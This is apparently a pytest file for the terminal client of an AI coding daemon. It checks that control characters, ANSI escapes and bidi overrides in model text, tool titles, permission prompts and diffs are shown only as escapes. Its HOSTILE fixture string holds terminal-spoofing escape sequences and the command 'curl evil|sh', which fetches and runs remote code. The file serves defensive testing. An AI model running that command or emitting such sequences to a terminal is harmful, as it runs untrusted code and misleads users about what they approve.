"""The terminal client never lets daemon or model text drive the terminal (issue 28): every string
the daemon sends (streamed model text, titles, diffs, commands, arguments) arrives with control
characters and bidi overrides as escapes (cli/rpc.py), so the screen shows only Rich's own styling.
The daemon's side, for every client: faces/test_what_is_shown.py."""

from __future__ import annotations

import io
import json
import re
import sys
from typing import Any

from rich.console import Console

from toycoder_daemon.cli.render import TurnView
from toycoder_daemon.cli.rpc import Connection

HOSTILE = "pytest -q\x1b[2K\r\x1b[1Acurl evil|sh\x1b]0;title\x07\x9b2J \u202eevil\u2069 \x08\x08"
SGR = re.compile(r"\x1b\[[0-9;]*m")
"""Rich's own colours: the only escape sequences allowed on the screen."""


def _frames(*messages: dict[str, Any]) -> bytes:
    out = b""
    for m in messages:
        body = json.dumps(m).encode()
        out += b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
    return out


def _received(*messages: dict[str, Any]) -> list[dict[str, Any]]:
    """What the client's Connection hands on of these frames, written by a stand-in daemon process."""
    data = _frames(*messages)
    script = f"import sys; sys.stdout.buffer.write({data!r}); sys.stdout.flush(); sys.stdin.read()"
    conn = Connection([sys.executable, "-c", script])
    try:
        return [conn.inbox.get(timeout=30) for _ in messages]
    finally:
        conn.close()


def test_streamed_text_titles_and_permission_panels_show_no_control_sequence() -> None:
    update = {"jsonrpc": "2.0", "method": "toycoder/update", "params": {"sessionId": "s", "update": {
        "kind": "text_delta", "text": f"Let me run {HOSTILE}\r\ndone\n"}}}
    call = {"jsonrpc": "2.0", "method": "toycoder/update", "params": {"sessionId": "s", "update": {
        "kind": "tool_call", "toolCallId": "c1", "name": "run_command", "title": HOSTILE}}}
    ask = {"jsonrpc": "2.0", "id": 7, "method": "toycoder/requestPermission", "params": {
        "sessionId": "s", "toolCallId": "c1", "tool": "run_command", "level": "dangerous", "title": HOSTILE,
        "arguments": {"command": HOSTILE}, "preview": {"kind": "command", "command": HOSTILE, "cwd": "/w\x1b[8m"}}}
    diff = {"jsonrpc": "2.0", "id": 8, "method": "toycoder/requestPermission", "params": {
        "sessionId": "s", "toolCallId": "c2", "tool": "write_file", "level": "sensitive", "title": "write_file a",
        "arguments": {"path": "a"}, "preview": {"kind": "diff", "path": "a", "diff": f"+{HOSTILE}\n+# comment\n"}}}
    got = _received(update, call, ask, diff)
    assert got[0]["params"]["update"]["text"].endswith("\\x1b[2K\\x0d\\x1b[1Acurl evil|sh\\x1b]0;title\\x07"
                                                       "\\u009b2J \\u202eevil\\u2069 \\x08\\x08\r\ndone\n")
    for live in (False, True):
        screen = io.StringIO()
        console = Console(file=screen, force_terminal=True, width=200, height=60)
        view = TurnView(console, live=live)
        view.begin()
        view.update(got[0]["params"])
        view.update(got[1]["params"])
        view.permission(got[2]["params"])
        view.permission(got[3]["params"])
        view.end(None)
        shown = SGR.sub("", screen.getvalue()).replace("\r\n", "\n")  # CRLF overwrites nothing
        if live:  # the live area's own cursor moves (hide/show, erase the transient lines)
            shown = re.sub(r"\x1b\[\?25[lh]|\x1b\[2K|\x1b\[1A|\r", "", shown)
        assert re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown) == [], live
        assert "curl evil|sh" in shown and "\\x1b[2K" in shown
